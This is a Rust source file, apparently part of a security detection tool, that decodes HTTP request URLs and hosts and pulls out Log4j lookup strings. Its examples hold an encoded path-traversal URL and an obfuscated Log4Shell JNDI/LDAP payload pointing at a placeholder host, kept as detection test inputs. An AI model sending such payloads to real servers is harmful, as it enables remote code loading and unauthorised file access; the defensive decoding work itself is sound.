// SPDX-License-Identifier: AGPL-3.0-or-later
//! HTTP requests: the target decoded, the host, and Log4j lookups.

use bumpalo::collections::Vec as ArenaVec;

use crate::event::mail::signals::authority_host;
use crate::vocab::{FieldType, Slot, SourceKind};

use super::decode::{percent_decoded, plus_as_blank};
use super::lookup::resolved;
use super::{Example, Lift, Lifter};

const TEXT: FieldType = FieldType::Text;

/// Decodes a request.
pub(super) static HTTP_REQUEST: Lifter = Lifter {
    name: "http_request",
    kinds: &[SourceKind::HttpRequest],
    inputs: &[
        ("raw_url", TEXT),
        ("path", TEXT),
        ("query", TEXT),
        ("user_agent", TEXT),
        ("body_text", TEXT),
        ("headers", FieldType::Map),
        ("headers.host", TEXT),
    ],
    outputs: &["decoded_url", "decoded_path", "decoded_query", "host", "lookups"],
    views: false,
    lift,
    examples: &[
        Example {
            kind: SourceKind::HttpRequest,
            payload: r#"{"raw_url": "/%252e%252e/%c0%ae%c0%ae/etc?q=a%2Bb+c", "headers": {"host": "WWW.Example:8080"}}"#,
            gives: r#"{
                "decoded_url": "/../../etc?q=a+b+c", "decoded_path": "/../../etc", "decoded_query": "q=a+b c",
                "host": "www.example", "lookups": []
            }"#,
        },
        Example {
            kind: SourceKind::HttpRequest,
            payload: r#"{"path": "/", "user_agent": "${${::-J}ndi:${lower:L}dap://192.0.2.1/a}"}"#,
            gives: r#"{
                "decoded_url": "/", "decoded_path": "/", "lookups": ["${jndi:ldap://192.0.2.1/a}"]
            }"#,
        },
    ],
};

fn lift<'a>(lift: &mut Lift<'_, 'a>) {
    let arena = lift.arena;
    let (path, query) = (lift.text(1), lift.text(2));
    let url = lift.text(0).or_else(|| match (path, query) {
        (Some(path), Some(query)) => Some(bumpalo::format!(in arena, "{}?{}", path, query).into_bump_str()),
        (path, _) => path,
    });
    if let Some(url) = url {
        let (path, query) = match url.split_once('?') {
            Some((path, query)) => (path, Some(query)),
            None => (url, None),
        };
        let decoded = percent_decoded(url, arena);
        lift.give_text(0, Some(decoded));
        lift.give_text(1, Some(percent_decoded(path, arena)));
        lift.give_text(2, query.map(|query| percent_decoded(plus_as_blank(query, arena), arena)));
    }
    let named = lift.text(6).or_else(|| url.and_then(authority));
    lift.give_text(3, named.and_then(|name| host(name, lift)));
    let texts = lift.outputs.first().copied().unwrap_or_default().text().into_iter();
    let texts = texts.chain(lift.text(3)).chain(lift.text(4)).chain(lift.texts(5).iter().copied());
    let mut lookups = ArenaVec::new_in(arena);
    if lift.wants(4) {
        lookups.extend(texts.filter_map(|text| resolved(text, arena)));
    }
    if url.is_some() || !lookups.is_empty() || !lift.texts(5).is_empty() {
        lift.give(4, Slot::Texts(lookups.into_bump_slice()));
    }
}

/// The authority of a target in absolute form.
fn authority(url: &str) -> Option<&str> {
    let (scheme, rest) = url.split_once("://")?;
    let known = scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https");
    known.then(|| rest.split(['/', '?', '#']).next().unwrap_or(rest))
}

/// The host of an authority: no user info, no port, lower case.
fn host<'a>(authority: &'a str, lift: &Lift<'_, 'a>) -> Option<&'a str> {
    let host = authority_host(authority.rsplit('@').next()?.trim())?;
    if !host.bytes().any(|byte| byte.is_ascii_uppercase()) {
        return Some(host);
    }
    let copy = lift.arena.alloc_str(host);
    copy.make_ascii_lowercase();
    Some(copy)
}
